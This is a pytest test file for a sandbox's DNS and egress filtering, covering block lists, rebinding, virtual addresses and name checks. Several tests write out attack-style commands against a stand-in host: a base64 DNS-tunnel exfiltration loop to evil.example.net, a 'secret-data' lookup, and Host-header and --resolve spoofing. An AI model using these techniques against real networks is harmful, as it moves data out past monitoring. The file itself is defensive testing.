# SPDX-License-Identifier: Apache-2.0
"""Names: judged before anything leaves, answered virtually or really, never rebinding."""

import ipaddress
import re

import pytest
from conftest import EXAMPLE

import world

REAL = {"dns": {"answers": "real"}, **EXAMPLE}
EVERYTHING = {"policy": {"default_egress": "allow"}}


def with_config(weir, config, **kw):
    """A whole configuration file rather than a policy."""
    return {"policy": None, "flags": ["--config", weir.file("weir.json", config)], **kw}


# Parity: d3.1-block-lists.
@pytest.mark.user
@pytest.mark.parametrize("how", ["", "+tcp"])
def test_denied_name_is_nxdomain_with_reason_and_never_leaves(weir, lab, how):
    r = weir.sh("dig %s secret-data.evil.example.net" % how)
    assert "status: NXDOMAIN" in r.out and "EDE: 15" in r.out, r
    event = r.find("dns", name="secret-data.evil.example.net")[0]
    assert event["verdict"] == "deny" and event["denial"] in r.out, r
    assert lab.asked("evil") == [], lab.asked()


def test_tunnel_labels_never_leave(weir, lab):
    r = weir.sh("for i in 1 2 3 4 5; do dig +tries=1 +time=2 $(echo chunk$i | base64 | tr -d =)"
                ".t.evil.example.net TXT >/dev/null; done; "
                "dig +tries=1 @%s x.evil.example.net; dig +tcp @%s y.evil.example.net" %
                (world.DNS4, world.DNS6))
    assert r.out.count("NXDOMAIN") == 2, r
    assert lab.asked("evil") == [] and len(r.find("dns", verdict="deny")) >= 7, r


@pytest.mark.machine
def test_any_server_address_is_us(weir, lab):
    r = weir.sh("dig +short @8.8.8.8 api.example.com; dig +short @%s api.example.com; "
                "dig +short @10.1.2.3 api.example.com; dig +tcp +short @8.8.8.8 api.example.com" %
                world.PRIVATE6)
    assert len(set(r.out.split())) == 1 and len(r.out.split()) == 4, r
    assert not lab.seen("dns", server=world.FOREIGN_DNS), lab.seen("dns")
    assert "api.example.com" in lab.asked(), lab.asked()


# Parity: d11.
@pytest.mark.machine
def test_virtual_addresses_are_stable_and_one_per_name(weir):
    r = weir.sh("for n in api files api; do dig +short $n.example.com; dig +short AAAA "
                "$n.example.com; done")
    a = r.out.split()
    assert len(a) == 6 and a[:2] == a[4:] and len(set(a)) == 4, r
    assert ipaddress.ip_address(a[0]) in ipaddress.ip_network("198.18.0.0/15"), r
    assert ipaddress.ip_address(a[1]).is_private, r
    event = r.find("dns", name="api.example.com", qtype="A")[0]
    assert world.v4("api.example.com") in event["answers"], r
    assert event["given"] == [a[0]], r


def test_virtual_address_that_was_never_given_out_leads_nowhere(weir):
    r = weir.guest("connect", "198.18.99.99", 80, policy=EVERYTHING)
    assert r.json["result"] not in ("connected", "timeout"), r


def test_virtual_addresses_give_no_way_past_rules_by_address(weir, lab):
    policy = {"policy": {"default_egress": "allow", "rules": [
        {"action": "deny", "destination": world.v4("api.example.com")}]}}
    r = weir.guest("connect", "api4.example.com", 80, policy=policy)
    assert r.json["result"] not in ("connected", "timeout"), r
    assert not lab.seen("tcp", server="api.example.com")


def test_real_addresses(weir, lab):
    r = weir.sh("dig +short api.example.com; dig +short AAAA api.example.com; "
                "curl -sS -4 http://api.example.com/ | head -c 12; "
                "curl -sS -6 http://api.example.com/ | head -c 12; "
                "ping -c1 -W2 api.example.com >/dev/null && echo pinged", **with_config(weir, REAL))
    assert r.out.split() == [world.v4("api.example.com"), world.v6("api.example.com"),
                             '{"authorized{"authorizedpinged'], r


# Parity: p1.5-host-header.
def test_real_mode_needs_the_name_to_agree(weir, lab):
    """The address was given out for one name; TLS or HTTP for another is refused."""
    evil, api = "evil.example.net", world.v4("api.example.com")
    r = weir.sh("dig +short api.example.com >/dev/null; "
                "curl -skS -m 5 --resolve %s:443:%s https://%s/; echo; "
                "curl -sS -m 5 -H 'Host: %s' http://api.example.com/" % (evil, api, evil, evil),
                **with_config(weir, REAL))
    assert "authorized" not in r.out, r
    assert not [e for e in lab.seen("http") if evil in e["head"]], lab.seen("http")


# Parity: p1.5-no-reverse.
def test_real_mode_bare_address_has_no_name(weir):
    r = weir.guest("connect", world.v4("files.example.com"), 80, **with_config(weir, REAL))
    assert r.json["result"] == "ECONNREFUSED", r


def test_static_records(weir, lab):
    r = weir.sh("dig +short db.internal; dig +short AAAA db.internal; "
                "curl -sS http://db.internal/ | head -c 12",
                policy="public_only",
                flags=["--dns-record", "db.internal=" + world.v4("api.example.com"),
                       "--dns-record", "db.internal=" + world.v6("api.example.com")])
    assert r.out.split() == [world.v4("api.example.com"), world.v6("api.example.com"),
                             '{"authorized'], r
    assert lab.asked("internal") == [], lab.asked()


# Parity: d3.1-rebind.
@pytest.mark.parametrize("mode", ["virtual", "real"])
def test_rebinding_is_filtered(weir, lab, mode):
    config = {"dns": {"answers": mode},
              "policy": {"rules": [{"action": "allow", "destination": "public"},
                                   {"action": "allow", "destination": ".example.net"}]}}
    r = weir.sh("dig rebind.example.net; dig AAAA rebind.example.net; "
                "curl -m 3 -sS http://rebind.example.net/", **with_config(weir, config))
    assert "ANSWER SECTION" not in r.out and r.rc != 0, r
    assert r.out.count("EDE: 17") >= 1, r
    assert [e for e in r.find("dns", name="rebind.example.net") if e["verdict"] == "deny"], r
    for server in ("loopback", "private", "metadata"):
        assert not lab.seen("tcp", server=server), lab.seen("tcp")


# Parity: d3.4-rebind.
def test_mixed_answers_keep_the_public_ones(weir, lab):
    r = weir.sh("curl -sS -m 5 http://mixed.example.net/ | head -c 12", policy="public_only")
    assert r.out == '{"authorized', r
    assert not lab.seen("tcp", server="private")


def test_aliases(weir):
    r = weir.sh("curl -sS http://www.example.com/ | head -c 12; dig loop1.example.com; "
                "dig dangling.example.com")
    assert '{"authorized' in r.out, r
    assert "status: SERVFAIL" in r.out or r.out.count("ANSWER: 0") >= 1, r


def test_alias_is_judged_by_the_name_that_was_asked(weir, lab):
    """An allowed alias works although its target's name is not allowed by itself."""
    policy = {"policy": {"default_egress": "deny", "rules": [
        {"action": "allow", "destination": "www.example.com"}]}}
    r = weir.sh("curl -sS http://www.example.com/ | head -c 12; dig +short api.example.com",
                policy=policy)
    assert r.out == '{"authorized', r


def test_no_such_name_and_failures(weir):
    r = weir.sh("dig nowhere.example.com | grep status; dig +tries=1 servfail.example.com | "
                "grep -E 'status|EDE'; dig +short MX api.example.com; dig MX api.example.com | "
                "grep status; dig +tries=1 +time=8 lost.example.com | grep -E 'status|EDE'",
                flags=["--config", weir.file("w.json", {"dns": {"timeout_ms": 500}})])
    assert "NXDOMAIN" in r.out and "SERVFAIL" in r.out and "NOERROR" in r.out, r
    assert re.search("EDE: 2[23]", r.out), r


def test_late_answers_do_not_hold_up_others(weir):
    r = weir.sh("dig +time=10 +short late.example.com & sleep 0.2; dig +short api.example.com; wait")
    assert [e["name"] for e in r.find("dns")] == ["api.example.com", "late.example.com"], r


def test_truncation_and_tcp(weir):
    r = weir.sh("dig +noedns +ignore more.example.com | grep -E 'flags:|SIZE'; "
                "dig +noedns more.example.com | grep -E 'ANSWER:|SERVER'; "
                "dig +bufsize=1232 +ignore more.example.com | grep flags:; "
                "dig +bufsize=4096 +ignore many.example.com | grep ANSWER:; "
                "dig +tcp more.example.com | grep ANSWER:", **with_config(weir, REAL))
    lines = r.out.splitlines()
    assert " tc" in lines[0], r
    assert "(TCP)" in r.out, r
    counts = [int(n) for n in re.findall(r"ANSWER: (\d+)", r.out)]
    # Whole over TCP and with room enough; a great many addresses may be cut to a good many.
    assert min(counts[1:2] + counts[-2:]) >= 30, r
    for size in re.findall(r"MSG SIZE +rcvd: (\d+)", r.out)[:1]:
        assert int(size) <= 512, r


def test_garbage_is_answered_or_ignored(weir, lab):
    code = ("import socket,os\n"
            "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(.3)\n"
            "s.connect(('192.0.0.1',53))\n"
            "for n in (0,1,11,12,13,40,512,1400):\n"
            " s.send(os.urandom(n))\n"
            " try: s.recv(4096)\n"
            " except OSError: pass\n"
            "print(len(socket.getaddrinfo('api.example.com',80)) > 0)\n")
    r = weir.run("/usr/bin/python3", "-c", code)
    assert r.out == "True\n", r
    assert not [e for e in lab.seen("dns") if "malformed" in e], lab.seen("dns")


@pytest.mark.parametrize("port,proto", [(5353, "udp"), (5355, "udp"), (137, "udp"), (853, "udp")])
def test_other_name_protocols_are_refused(weir, port, proto):
    r = weir.guest(proto, "echo.example.com", port, "x", policy=EVERYTHING)
    assert r.json["result"] not in ("ok", "timeout"), r


# Parity: d3.1-servers, d04.
def test_chosen_server(weir, lab):
    r = weir.sh("dig +short api.example.com", flags=["--dns-server", "[%s]:53" % world.DNS6])
    assert r.out, r
    assert {e["server"] for e in lab.seen("dns")} == {world.DNS6}, lab.seen("dns")
